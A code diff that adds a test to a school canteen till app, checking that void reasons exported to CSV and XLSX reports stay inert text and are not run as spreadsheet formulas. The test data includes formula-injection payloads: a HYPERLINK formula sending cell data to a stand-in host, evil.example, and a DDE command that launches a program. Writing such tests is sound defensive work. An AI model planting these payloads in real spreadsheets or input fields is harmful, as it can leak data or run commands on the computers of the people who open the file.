@@ -438,6 +438,41 @@ def test_the_csv_holds_one_table_and_parses(canteen: Canteen, accountant: Client
     assert sum(D(row[4]) for row in rows[1:-1]) == D("2050.00")
 
 
+def test_text_a_till_typed_stays_text_in_the_csv_and_xlsx_never_a_formula(
+    canteen: Canteen, accountant: Client, menu: Menu
+) -> None:
+    # given void reasons a terminal sent that a spreadsheet would run as a formula, and
+    # one with a control character no XLSX cell may hold
+    reasons = {
+        "INJ-0": '=HYPERLINK("http://evil.example/?"&A1,"details")',
+        "INJ-1": "+cmd|' /C calc'!A0",
+        "INJ-2": "@SUM(1+1)",
+        "INJ-3": "-2+3",
+        "INJ-4": "bell\x07here",
+    }
+    for txn, reason in reasons.items():
+        assert canteen.terminal.sell(canteen.pupil, txn, menu.item["tea"]).status_code == 200
+        assert canteen.terminal.post(f"/sales/{txn}/void", {"reason": reason}).status_code == 200
+    query = {"till": f"d{canteen.terminal.device.pk}", "table": "voids"}
+    # when the accountant downloads the shift close as CSV
+    response = accountant.get("/canteen/reports/shift.csv", query)
+    rows = list(csv.reader(io.StringIO(response.content.decode()[1:]), delimiter=";"))
+    written = {row[2]: row[6] for row in rows[1:-1]}
+    # then no cell starts with what makes a spreadsheet compute it: it reads as text
+    for txn in ("INJ-0", "INJ-1", "INJ-2", "INJ-3"):
+        assert written[txn] == "'" + reasons[txn], txn
+    assert written["K1-2"] == "wrong pupil"  # plain text is left as it is
+    assert rows[-1][5] == "900.00"  # and amounts stay numbers
+    # and in the XLSX each is a text cell holding the reason as typed (less the bell)
+    xlsx = accountant.get("/canteen/reports/shift.xlsx", query)
+    assert xlsx.status_code == 200
+    sheet = load_workbook(io.BytesIO(xlsx.content))["Voids"]
+    cells = {row[2].value: row[6] for row in sheet.iter_rows(min_row=3) if row[2].value}
+    for txn in ("INJ-0", "INJ-1", "INJ-2", "INJ-3"):
+        assert (cells[txn].data_type, cells[txn].value) == ("s", reasons[txn]), txn
+    assert cells["INJ-4"].value == "bellhere"
+
+
 def test_viewing_or_exporting_balances_is_an_audited_read_and_sales_are_not(
     canteen: Canteen, accountant: Client
 ) -> None:
